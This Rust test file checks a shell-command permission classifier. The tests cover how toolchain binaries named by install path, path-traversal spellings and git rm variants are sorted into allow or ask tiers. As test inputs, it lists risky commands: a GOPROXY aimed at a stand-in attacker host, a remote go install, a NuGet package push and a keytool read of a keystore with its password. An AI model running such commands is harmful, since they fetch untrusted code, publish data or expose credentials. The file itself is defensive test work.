//! Issue 21: a second question inside what is one family, or a question about a read, in
//! whole sessions: a toolchain's program named by its install directory is that program;
//! each class is tested in several spellings, beside the dangerous neighbours that must keep
//! asking and the harmless ones that must not start to.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::Level::{Allow, AlwaysAsk, AskOnce};
use common::{PROJECT, always_ask, check_grants, check_parts, project_family};

/// A toolchain's own program in its root-owned install directory is that program: its builds
/// and tests are the project family, as they are by name.
#[test]
fn a_toolchains_program_by_its_install_directory_is_the_program() {
    project_family(&[
        "/usr/local/go/bin/go test -run TestCache ./internal/quote",
        "/usr/local/go/bin/go build ./...",
        "/usr/lib/go-1.22/bin/go vet ./...",
        "/usr/lib/go/bin/go test ./...",
        "/usr/share/dotnet/dotnet build",
        "/usr/local/share/dotnet/dotnet test",
        "cd /ws && /usr/local/go/bin/go test ./...",
    ]);
    check_grants(&[
        ("/usr/local/go/bin/gofmt -l .", Allow, None),
        ("/usr/local/go/bin/go version", Allow, None),
        (
            "/usr/lib/jvm/java-21-openjdk-amd64/bin/java -version",
            Allow,
            None,
        ),
    ]);
}

/// Its dangerous spellings keep their tier, whatever the path.
#[test]
fn a_toolchains_program_by_path_keeps_its_dangerous_rows() {
    always_ask(&[
        "/usr/local/go/bin/go install github.com/x/y@latest",
        "GOPROXY=https://evil.example /usr/local/go/bin/go mod download",
        "/usr/share/dotnet/dotnet nuget push x.nupkg",
        "/usr/lib/jvm/java-21-openjdk-amd64/bin/keytool -list -keystore ~/.android/debug.keystore -storepass android",
    ]);
}

/// Only the toolchain's own names, in its own directory exactly, count: another program there,
/// the same name in another or a user-writable directory, a climb or an empty folder stays a
/// program by path.
#[test]
fn other_programs_and_directories_stay_programs_by_path() {
    check_parts(&[
        ("/usr/local/go/bin/ls", AskOnce, "program by path"),
        ("/usr/local/go/bin/rm x", AskOnce, "program by path"),
        ("/tmp/go/bin/go test ./...", AskOnce, "program by path"),
        (
            "/usr/local/go/bin/../../tmp/go test",
            AskOnce,
            "program by path",
        ),
        (
            "/usr/lib/jvm/../bin/java -version",
            AskOnce,
            "program by path",
        ),
        (
            "/usr/lib/jvm/./bin/java -version",
            AskOnce,
            "program by path",
        ),
        (
            "/usr/lib/jvm//bin/java -version",
            AskOnce,
            "program by path",
        ),
        (
            "/usr/lib/jvm/a/b/bin/java -version",
            AskOnce,
            "program by path",
        ),
        (
            "/opt/homebrew/bin/go test ./...",
            AskOnce,
            "program by path",
        ),
        ("/usr/local/bin/go test ./...", AskOnce, "program by path"),
        ("/home/u/go/bin/go test ./...", AskOnce, "program by path"),
        ("/usr/local/go/bin/go.sh test", AskOnce, "program by path"),
        ("/USR/LOCAL/GO/BIN/go test", AskOnce, "program by path"),
    ]);
    check_grants(&[("go test ./...", AskOnce, PROJECT)]);
}

/// `git rm` without `-f` removes only files the branch's tip holds exactly (git refuses
/// otherwise), so each comes back from the commit: a local operation git keeps recoverable.
#[test]
fn git_rm_of_committed_files_runs() {
    check_grants(&[
        ("git rm .eslintrc.cjs", Allow, None),
        ("git rm -r src/old", Allow, None),
        ("git rm -q -- a.txt b.txt", Allow, None),
        ("git rm -n '*.orig'", Allow, None),
        ("git rm --dry-run -r legacy", Allow, None),
        ("git rm --cached -n x", Allow, None),
        ("git rm --ignore-unmatch -r docs/old", Allow, None),
    ]);
    // Forced, reading its list from a file, or in another repository: asked.
    check_parts(&[
        ("git rm -f notes.txt", AlwaysAsk, "git rm -f"),
        ("git rm -rf src", AlwaysAsk, "git rm -f"),
        ("git rm --force x", AlwaysAsk, "git rm -f"),
    ]);
    for s in [
        "git rm --pathspec-from-file=/tmp/list",
        "git rm --pathspec-from-file list.txt",
        "cd /tmp/other && git rm x",
        "git -C ../other rm x",
        "git rm .env",
    ] {
        let v = airlock_shell::judge(s, &common::ENV);
        assert_ne!(v.level, Allow, "{s}: {}", v.row);
    }
}
